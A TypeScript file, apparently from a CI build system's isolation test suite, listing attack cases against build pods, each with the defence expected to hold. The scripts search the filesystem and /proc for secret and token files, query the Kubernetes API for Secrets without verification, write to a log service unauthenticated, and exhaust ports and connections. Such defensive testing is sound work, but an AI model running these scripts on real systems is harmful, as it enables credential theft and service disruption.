import type { Attack } from "../attack.ts";

/** Attacks on what only a pod has: its network, its token and its neighbours. */
export const pods: readonly Attack[] = [
  {
    id: "C-17",
    kind: "credentials",
    title: "searches its pod for a token of the API server or of the log service",
    held: "Only the container of the builder mounts tokens",
    only: ["pods"],
    script: `
find / -xdev -path '*secrets*' -type f -readable 2> /dev/null | while read -r one; do "$leak" "$id" "$one"; done
for one in /var/run/secrets/* /run/secrets/* /proc/[0-9]*/root/var/run/secrets/*; do [ -e "$one" ] && "$leak" "$id" "$one"; done`,
  },
  {
    id: "C-18",
    kind: "credentials",
    title: "asks the API server for Secrets without a token",
    held: "The API server gives an unknown user nothing",
    only: ["pods"],
    script: `
python3 - "$KUBERNETES_SERVICE_HOST" <<'PY' && "$leak" "$id" secrets
import ssl, sys, urllib.request
url = "https://%s/api/v1/namespaces/ci/secrets" % (sys.argv[1] or "kubernetes.default.svc")
urllib.request.urlopen(url, timeout=5, context=ssl._create_unverified_context())
PY`,
  },
  {
    id: "C-19",
    kind: "credentials",
    title: "writes a page into the log service without a token",
    held: "The log service accepts only the builder that holds the Build",
    only: ["pods"],
    script: `
python3 - <<'PY' && "$leak" "$id" log
import urllib.request
for method in ("PUT", "POST", "DELETE"):
    request = urllib.request.Request("http://builderpool-logs/alice/hello/planted/1/pretty.html", b"x", method=method)
    try: urllib.request.urlopen(request, timeout=5); break
    except OSError: pass
else: raise SystemExit(1)
PY`,
  },
  {
    id: "A-36",
    kind: "availability",
    title: "keeps all connections to the health port of its builder open",
    held: "The health server accepts 16 connections at a time, and the build ends with its order",
    only: ["pods"],
    script: `
cat > "$TMPDIR/connect.py" <<'PY'
import socket, time
held = []
for _ in range(2000):
    try: held.append(socket.create_connection(("127.0.0.1", 8080), 1))
    except OSError: pass
    if len(held) % 100 == 99: time.sleep(0.1)
time.sleep(900)
PY
setsid python3 "$TMPDIR/connect.py" < /dev/null > /dev/null & sleep 15`,
  },
  {
    id: "A-37",
    kind: "availability",
    title: "listens on every port of its pod that is free",
    held: "After each order every process of the build user is killed",
    only: ["pods"],
    script: `
cat > "$TMPDIR/listen.py" <<'PY'
import socket, time
held = []
for port in range(1024, 60000, 7):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind(("0.0.0.0", port)); s.listen(); held.append(s)
    except OSError: pass
time.sleep(900)
PY
setsid python3 "$TMPDIR/listen.py" < /dev/null > /dev/null & sleep 1`,
  },
];
